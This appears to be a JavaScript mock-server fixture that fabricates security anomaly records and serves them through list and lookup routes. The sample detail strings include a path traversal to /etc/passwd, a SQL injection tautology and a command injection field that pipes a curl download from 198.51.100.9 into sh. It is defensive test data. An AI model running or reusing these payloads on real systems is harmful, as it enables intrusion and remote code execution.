// Anomalies: of every kind and key, some going on, one of an attacker, one hostile.
import { json, page, problem } from './http.mjs';
import { addressOf, hostile, iso, uuid } from './sessions.mjs';

const minute = 60_000;
const kinds = [
  ['brute_force', 'high', 10, 300, ''],
  ['path_traversal', 'high', 1, 60, '/static/..%2f..%2f..%2fetc%2fpasswd'],
  ['command_injection', 'critical', 1, 60, 'name=a;curl -s http://198.51.100.9/x|sh'],
  ['web_attack', 'high', 1, 60, "sql injection: ' or '1'='1"],
  ['rate_limit_exceeded', 'medium', 1, 60, '/api/search'],
  ['suspicious_container', 'high', 1, 60, 'registry.example/miner:latest'],
  ['privilege_escalation', 'critical', 1, 60, 'alpine:3.20'],
];
const users = ['root', 'deploy', 'postgres', 'ana', 'gitlab-runner'];

// Numbered from 1 to 240; the newest has the highest number. 237 is hostile, 236 was too many to tell apart.
export const initial = (scenario, now) => ({
  anomalies: scenario === 'full' ? Array.from({ length: 240 }, (_, i) => anomaly(240 - i, now)) : [],
});

function keyOf(n, kind) {
  if (n === 236) return ['global', 'ip'];
  if (kind === 'suspicious_container' || kind === 'privilege_escalation') return ['user', users[n % users.length]];
  if (n % 12 === 0) return ['subnet', `198.51.${n % 100}.0/24`];
  if (n % 7 === 0) return ['ip', `2001:db8:0:${n.toString(16)}::/64`];
  return ['ip', addressOf(n)];
}

function anomaly(n, now) {
  const [kind, severity, threshold, window_seconds, detail] = kinds[n % kinds.length];
  const [key_kind, key] = n === 237 ? ['user', hostile] : keyOf(n, kind);
  const opened = now - (241 - n) * 11 * minute;
  const over = n < 236 && n % 11 !== 0;
  return {
    id: uuid('a0a', n),
    kind,
    key_kind,
    key,
    severity,
    source_ip: key_kind === 'ip' ? key.replace('::/64', '::9') : '',
    user: n === 237 ? hostile : users[n % users.length],
    detail: n === 237 ? hostile : detail,
    count: n === 238 ? 1_204_311 : threshold + ((n * 37) % 900),
    threshold,
    window_seconds,
    opened_at: iso(opened),
    seen_at: iso(opened + 4 * minute),
    closed_at: over ? iso(opened + 9 * minute) : null,
  };
}

/** Says of an anomaly what the server would, after it has changed. */
export const tell = (send, a, what) =>
  send(`anomaly.${a.kind}.detected`, what === 'closed' ? 'info' : a.severity, { episode_id: a.id, state: what }, a.id);

export const routes = {
  'GET anomalies': ({ state, res, q }) => json(res, 200, page(state.anomalies.filter(matching(q)), q)),
  'GET anomalies/:id': ({ state, res, id }) => {
    const a = state.anomalies.find((x) => x.id === id);
    if (a === undefined) return problem(res, 404, 'Not Found', `there is no anomaly ${id}`);
    json(res, 200, a);
  },
};

const matching = (q) => (a) =>
  (!q.get('open') || (a.closed_at === null) === (q.get('open') === 'true')) &&
  ['kind', 'severity'].every((k) => q.getAll(k).length === 0 || q.getAll(k).includes(a[k])) &&
  ['key_kind', 'key'].every((k) => !q.get(k) || a[k] === q.get(k));
